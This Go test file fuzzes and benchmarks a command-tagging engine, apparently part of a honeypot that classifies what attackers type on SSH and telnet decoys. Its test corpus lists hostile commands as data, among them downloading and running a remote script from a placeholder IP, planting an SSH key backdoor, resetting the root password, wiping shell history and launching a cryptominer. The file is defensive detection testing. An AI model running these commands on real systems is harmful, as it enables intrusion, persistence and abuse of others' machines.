package ttp

import (
	"reflect"
	"strconv"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
)

// corpus is a realistic mix of what bots and people type on ssh/telnet deckies.
var corpus = []string{
	"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
	"ls -lh $(which ls)", "crontab -l", "w", "top", "uname -m", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
	"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
	"cat /etc/passwd", "whoami", "id", "ps aux", "netstat -tulpn", "ifconfig", "history -c", "cd /tmp",
	"wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.5 -c get tftp1.sh",
	"echo -e '\\x41\\x4b\\x34\\x37'", "enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /bin/echo",
	"nproc", "ls -la /var/run/docker.sock", "sudo -l", "cat /etc/os-release", "export HISTFILE=/dev/null",
	"curl -s http://ipinfo.io/ip", "ping -c 1 8.8.8.8", "echo root:Xk2pQ9|chpasswd|bash", "passwd", "exit",
	"ls", "pwd", "cd /var/www/html", "cat index.php", "mkdir /tmp/.x", "nohup ./x86 > /dev/null 2>&1 &",
	"find / -name '*.conf' 2>/dev/null", "grep -i password /etc/*.conf", "last", "uptime", "hostname",
	"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "./xmrig --donate-level 1 -o pool:3333", "rm -rf /tmp/*",
}

func FuzzTagCommand(f *testing.F) {
	for _, c := range corpus {
		f.Add(c)
	}
	for _, c := range cases {
		for _, s := range append(c.pos, c.neg...) {
			if x, ok := s.(event.Event); ok && x.Type == "command" {
				f.Add(x.Fields["command"].(string))
			}
		}
	}
	f.Add("ſudo -l")             // long s folds to s under (?i)
	f.Add("XMRIG \u212a")        // Kelvin sign
	f.Add("cat /etc/\xffshadow") // invalid UTF-8
	e := newTestEngine(f)
	set := e.Rules()
	f.Fuzz(func(t *testing.T, text string) {
		x := cmd(text)
		x.Time = time.Unix(0, 0)
		tags := e.Tag(x)
		if len(tags) > 0 && tags[0].SourceKind != KindCommand {
			t.Fatalf("kind %s", tags[0].SourceKind)
		}
		// A remembered answer is the answer: tagging again (from the memo)
		// gives what an engine that never saw the text gives.
		if again, fresh := e.Tag(x), New(set, e.opts).Tag(x); !reflect.DeepEqual(tags, fresh) || !reflect.DeepEqual(again, fresh) {
			t.Fatalf("%q: memoised tags %+v then %+v, fresh %+v", text, tags, again, fresh)
		}
		// The prefilter must never hide a match.
		low := newLowered(capText(text))
		for _, r := range set.rules {
			for _, m := range r.matchers {
				if m.field != "command" || m.filter == nil {
					continue
				}
				if m.re.MatchString(text) && !m.filter.pass(&low) {
					t.Fatalf("rule %s: prefilter %s rejects %q which the regex matches", r.ID, m.filter.String(), text)
				}
			}
		}
	})
}

func BenchmarkTagCommands(b *testing.B) {
	e := newTestEngine(b)
	evs := make([]event.Event, len(corpus))
	for i, c := range corpus {
		evs[i] = cmd(c)
	}
	tagInTurn(b, e, evs)
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "commands/s")
}

// tagInTurn tags evs round and round from several goroutines.
func tagInTurn(b *testing.B, e *Engine, evs []event.Event) {
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			e.Tag(evs[i%len(evs)])
			i++
		}
	})
}

// BenchmarkTagShortCommands is the bot case the memo is for: the short
// commands of the corpus, over and over, from several goroutines.
func BenchmarkTagShortCommands(b *testing.B) {
	e := newTestEngine(b)
	var evs []event.Event
	for _, c := range corpus {
		if len(c) <= maxMemoText {
			evs = append(evs, cmd(c))
		}
	}
	tagInTurn(b, e, evs)
}

// BenchmarkTagUniqueCommands is the memo's worst case: no text repeats, so
// every event misses and is remembered, and the memo keeps filling up.
func BenchmarkTagUniqueCommands(b *testing.B) {
	e := newTestEngine(b)
	evs := make([]event.Event, 1<<14)
	for i := range evs {
		evs[i] = cmd(corpus[i%len(corpus)] + " #" + strconv.Itoa(i))
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		e.Tag(evs[i%len(evs)])
		i++
	}
}
